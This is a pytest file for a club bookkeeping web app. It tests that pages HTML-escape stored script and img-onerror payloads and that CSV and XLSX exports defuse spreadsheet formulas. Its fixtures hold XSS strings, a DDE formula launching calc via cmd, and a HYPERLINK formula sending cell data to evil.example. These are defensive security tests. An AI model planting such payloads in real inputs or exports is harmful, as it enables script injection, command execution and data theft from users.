"""Templates escape everything: a stored script tag is shown as text, never run; exports defuse
spreadsheet formulas.

Hostile values are stored through the services, exactly as a form would store them: a person
named `<script>alert(1)</script>` living at `"><img src=x onerror=alert(1)>`, a booking text, a
campaign name and a project title with the same. Every page that shows them must show the escaped
text and never the raw tag.
"""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from supportclub.campaigns.services import CampaignLine, create_campaign, record_campaign_booking
from supportclub.extensions import db as _db
from supportclub.ledger.models import Account, PersonKind
from tests.factories import (
    by_code,
    donation_line,
    make_booking,
    make_contribution,
    make_member,
    make_person,
    make_project,
    make_receipt_settings,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SCRIPT_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
IMG_ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
RAW = ("<script>alert(1)", "<img src=x", "onerror=alert(1)>")


@pytest.fixture
def hostile(app, db, users):
    """A member with a hostile name and address (the member login's own person), a donation and
    a receipt of theirs, a hostile booking text, campaign name and project title."""
    from supportclub.receipts.services import issue_single

    person = make_member(first_name=SCRIPT, last_name=f"Muster{SCRIPT}", street=IMG, city=IMG)
    users["member"].person_id = person.id
    make_receipt_settings()
    receipt = issue_single(donation_line(make_contribution(person, 5000)).id, actor=None)
    booking = make_booking(4200, person_id=person.id, text=f"Spende {SCRIPT} {IMG}")
    campaign = create_campaign(name=f"Aktion {SCRIPT}", series=SCRIPT, year=2025, actor=None)
    record_campaign_booking(
        campaign,
        booking_date=date(2025, 5, 1),
        account_id=by_code(Account, "cash").id,
        text=f"Kuchenverkauf {SCRIPT}",
        lines=[CampaignLine("sales", 12000, text=IMG)],
        actor=None,
    )
    org = make_person(kind=PersonKind.ORGANISATION, first_name="", last_name=f"Kita {SCRIPT}")
    project = make_project(f"Projekt {SCRIPT}", applicant=org)
    _db.session.commit()
    return {
        "person": person.id,
        "booking": booking.id,
        "receipt": receipt.id,
        "campaign": campaign.id,
        "project": project.id,
    }


# url template, role, the escaped tag shown, the escaped address shown
PAGES = [
    ("/mitglieder", "treasurer", True, True),
    ("/mitglieder/{person}", "treasurer", True, True),
    ("/buchungen", "treasurer", True, True),
    ("/buchungen/{booking}", "treasurer", True, True),
    ("/spenden", "treasurer", True, True),
    ("/spenden/spender/{person}", "treasurer", True, True),
    ("/zuwendungsbestaetigungen", "treasurer", True, False),
    ("/zuwendungsbestaetigungen/{receipt}", "treasurer", True, True),
    ("/projekte", "board", True, False),
    ("/projekte/{project}", "board", True, False),
    ("/aktionen", "board", True, False),
    ("/aktionen/{campaign}", "board", True, False),
    ("/berichte", "board", True, False),  # the campaign's result
    ("/", "treasurer", True, False),
    ("/verwaltung/protokoll", "auditor", True, True),
    ("/mein-konto", "member", True, True),
    ("/mein-konto/zahlungen/{booking}", "member", True, True),
    ("/mein-konto/zuwendungsbestaetigungen", "member", True, False),
    ("/mein-konto/daten", "member", True, True),
]


@pytest.mark.parametrize(("template", "role", "shows_tag", "shows_address"), PAGES)
def test_a_stored_script_is_shown_as_text(
    hostile, clients, template, role, shows_tag, shows_address
):
    url = template.format(**hostile)
    response = clients[role].get(url)
    assert response.status_code == 200, url
    page = response.get_data(as_text=True)
    assert [raw for raw in RAW if raw in page] == []
    assert (SCRIPT_ESCAPED in page) is shows_tag
    assert (IMG_ESCAPED in page) is shows_address


def test_the_pages_still_have_their_own_scripts_only(hostile, clients):
    """The check above can fail: the app's own script tags are there, from static files only."""
    page = clients["treasurer"].get("/buchungen").get_data(as_text=True)
    assert "<script src=" in page
    assert page.count("<script") == page.count("<script src=")


# Spreadsheet exports: formulas are defused ---------------------------------------------------

CMD = "=cmd|' /C calc'!A0"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', "+SUM(1;2)", "-2+3", "@cmd"]


@pytest.fixture
def formulas(db):
    """A member and a booking whose texts would be formulas in a spreadsheet."""
    person = make_member(
        first_name=FORMULAS[0], last_name=FORMULAS[1], street=FORMULAS[2], city=FORMULAS[3]
    )
    make_contribution(person, 2500)
    make_booking(
        1000, person_id=person.id, text="=cmd|' /C calc'!A0", booking_date=date(2025, 4, 1)
    )
    return person


def _csv_cells(body: bytes) -> list[str]:
    """Every cell of a ;-separated CSV export (UTF-8 with BOM)."""
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


@pytest.mark.parametrize(
    ("url", "texts"),
    [
        ("/mitglieder/export.csv", FORMULAS),
        ("/spenden/export.csv?von=2025-01-01&bis=2025-12-31", FORMULAS[:2]),
        (
            "/berichte/export/bookings.csv?von=2025-01-01&bis=2025-12-31",
            [CMD],
        ),
    ],
)
def test_csv_exports_defuse_formulas(formulas, clients, url, texts):
    response = clients["treasurer"].get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    cells = _csv_cells(response.data)
    for text in texts:
        assert any(cell.startswith("'") and text in cell for cell in cells), text
    text_cells = [c for c in cells if any(t in c for t in [*FORMULAS, CMD])]
    assert text_cells and all(not c.startswith(("=", "+", "-", "@")) for c in text_cells)


def test_xlsx_export_keeps_formulas_as_text(formulas, clients):
    response = clients["treasurer"].get("/mitglieder/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    hostile = [cell for cell in cells if any(text in cell.value for text in FORMULAS)]
    assert hostile
    assert all(cell.data_type == "s" for cell in hostile)  # text, never a formula ("f")
